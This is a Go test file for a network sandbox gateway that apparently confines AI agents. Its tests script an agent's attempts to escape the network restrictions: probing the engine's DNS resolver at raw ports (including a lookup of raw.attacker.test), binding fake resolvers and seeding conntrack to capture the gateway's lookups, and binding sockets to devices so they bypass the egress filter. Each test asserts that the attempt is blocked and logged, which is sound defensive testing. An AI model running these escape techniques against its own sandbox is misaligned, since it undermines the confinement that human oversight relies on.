package runner_test

import (
	"strings"
	"testing"

	"github.com/yolo-run/yolo-run/reports"
	"github.com/yolo-run/yolo-run/runner"
)

// The engine's resolver (127.0.0.11) answers any name at its raw port, which /proc/net/udp shows: closed, whatever the port.
func TestAttackEngineResolverIsClosedAtItsRawPort(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, `python3 - <<'PY'
import socket, struct
query = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in [b"raw", b"attacker", b"test"]) + b"\0\0\1\0\1"
found, answered = 0, 0
for proto in ("udp", "tcp"):
    for line in open(f"/proc/net/{proto}").read().splitlines()[1:]:
        addr, port = line.split()[1].split(":")
        if addr != "0B00007F": continue
        found += 1
        try:
            kind = socket.SOCK_DGRAM if proto == "udp" else socket.SOCK_STREAM
            s = socket.socket(socket.AF_INET, kind); s.settimeout(2); s.connect(("127.0.0.11", int(port, 16)))
            s.send(query if proto == "udp" else struct.pack("!H", len(query)) + query)
            if s.recv(512): answered += 1
        except OSError: pass
print(f"found={found}"); print(f"answered={answered}")
PY
dig +short +time=2 +tries=1 allowed.test | grep -c '^198\.1[89]\.' | sed 's/^/control=/'
`, online(n, "allowed.test"))
	r.want(t, reports.NoChanges)
	if r.says(t, "found") == "0" {
		t.Error("control: no socket of the engine's resolver was found, so nothing was tried")
	}
	if got := r.says(t, "answered"); got != "0" {
		t.Errorf("the engine's resolver answered %s times", got)
	}
	if got := r.says(t, "control"); got != "1" {
		t.Errorf("control: the gateway's resolver did not answer with an address of its own: %s", got)
	}
	if got := n.seen(t, "raw.attacker.test"); len(got) > 0 {
		t.Errorf("the lookup left: %q", got)
	}
	if len(r.find(reports.Deny, func(e reports.Event) bool { return e.Addr == "127.0.0.11" })) == 0 {
		t.Error("the attempt is not on record")
	}
}

// An agent that binds 127.0.0.11:53 and seeds conntrack from every port wants the gateway's own lookups to land at itself.
func TestAttackConntrackSeedingDoesNotCaptureTheGatewaysLookups(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, `cat > /tmp/seed.py <<'PY'
import os, socket, threading, time
stolen = 0
def fake(addr, port):
    global stolen
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((addr, port))
    except OSError: return
    while True:
        data, frm = s.recvfrom(2048)
        if b"late" in data: stolen += 1; print("stolen", data, flush=True)
for addr, port in (("127.0.0.11", 53), ("127.83.0.1", 53), ("0.0.0.0", 53)): threading.Thread(target=fake, args=(addr, port), daemon=True).start()
for target in (("127.0.0.11", 53), ("`+internetAddr+`", 53)):
    for port in range(1024, 65535, 7):
        for source in ("127.0.0.11", "127.83.0.1", ""):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((source, port)); s.sendto(b"seed", target); s.close()
            except OSError: pass
print("seeded", flush=True)
while not os.path.exists("/tmp/done"): time.sleep(0.1)
print(f"stolen={stolen}", flush=True)
PY
python3 /tmp/seed.py > /tmp/out & 
until grep -q seeded /tmp/out 2>/dev/null; do sleep 0.2; done
# Long enough for a second question: the first may find the buffer full of seeds.
for i in $(seq 30); do curl -s -m 12 -o /dev/null http://late$i.allowed.test/ || echo failed; done | grep -c failed | sed 's/^/failed=/'
for i in $(seq 0 59); do curl -sf -m 4 -o /dev/null http://alias$i:8080/ || echo failed; done | grep -c failed | sed 's/^/internal-failed=/'
touch /tmp/done; wait; cat /tmp/out
`, online(n, "*.allowed.test"), func(cfg *runner.Config) {
		for _, alias := range aliases() {
			cfg.AllowedInternal = append(cfg.AllowedInternal, alias+":8080")
		}
	})
	r.want(t, reports.NoChanges)
	if got := r.says(t, "internal-failed"); got != "0" {
		t.Errorf("%s of 60 requests to names of the network failed: the agent's entries redirected lookups at the engine's resolver", got)
	}
	if got := r.says(t, "stolen"); got != "0" {
		t.Errorf("the agent got %s of the gateway's lookups", got)
	}
	if got := r.says(t, "failed"); got != "0" {
		t.Errorf("%s of 30 allowed requests failed while redirects were tracked", got)
	}
	if got := n.seen(t, "dns late1.allowed.test"); len(got) == 0 {
		t.Error("control: the lookup did not reach the resolver")
	}
}

// A socket that is bound to lo with SO_BINDTODEVICE must not pass as loopback, and leaves a record. A TCP socket that did this to itself
// waits for its own time-out: the kernel delivers no refusal to it, because what comes back for the address of eth0 is not for a socket on
// lo. One that is bound to eth0 leads redirected packets out by it, with the address 127.0.0.1.
func TestAttackBindToADevice(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, `python3 - <<'PY'
import socket, time
def go(name, kind, device, to):
    begun = time.monotonic()
    try:
        s = socket.socket(socket.AF_INET, kind); s.settimeout(2)
        s.setsockopt(socket.SOL_SOCKET, 25, device)
        s.connect(to); s.send(b"GET /seen HTTP/1.0\r\n\r\n"); s.send(b"x")
        print(f"{name}={'open' if s.recv(10) else 'closed'}")
    except OSError: print(f"{name}=closed")
    print(f"{name}-quick={time.monotonic()-begun < 1}")
go("lo-tcp", socket.SOCK_STREAM, b"lo", ("`+internetAddr+`", 8099))
go("lo-udp", socket.SOCK_DGRAM, b"lo", ("`+internetAddr+`", 8099))
go("eth0-tcp", socket.SOCK_STREAM, b"eth0", ("`+internetAddr+`", 8099))
go("eth0-name", socket.SOCK_STREAM, b"eth0", (socket.gethostbyname("allowed.test"), 80))
go("eth0-udp", socket.SOCK_DGRAM, b"eth0", ("`+internetAddr+`", 8099))
go("eth0-lookup", socket.SOCK_DGRAM, b"eth0", ("`+internetAddr+`", 53))
PY
curl -sf -m 10 -o /dev/null http://allowed.test/; echo control=$?
`, online(n, "allowed.test"))
	r.want(t, reports.NoChanges)
	for name, want := range map[string]string{
		"lo-tcp": "closed", "lo-udp": "closed", "lo-udp-quick": "True", "control": "0",
		"eth0-tcp": "closed", "eth0-name": "closed", "eth0-udp": "closed", "eth0-lookup": "closed", "eth0-lookup-quick": "True",
	} {
		if got := r.says(t, name); got != want {
			t.Errorf("%s is %s, want %s", name, got, want)
		}
	}
	for _, layer := range []reports.Layer{reports.LayerTCP, reports.LayerUDP} {
		if len(r.find(reports.Deny, func(e reports.Event) bool { return e.Addr == internetAddr && e.Layer == layer })) == 0 {
			t.Errorf("the attempt over %s is not on record", layer)
		}
		// What was redirected before it was stopped has lost its destination, but not its process, where that still waits.
		if len(r.find(reports.Deny, func(e reports.Event) bool {
			known := e.Process != nil && strings.Contains(e.Process.Exe, "python")
			return e.Layer == layer && strings.Contains(e.Reason, "bound to a network device") && (known || layer == reports.LayerUDP)
		})) == 0 {
			t.Errorf("the attempt over %s from a socket bound to eth0 is not on record", layer)
		}
	}
}
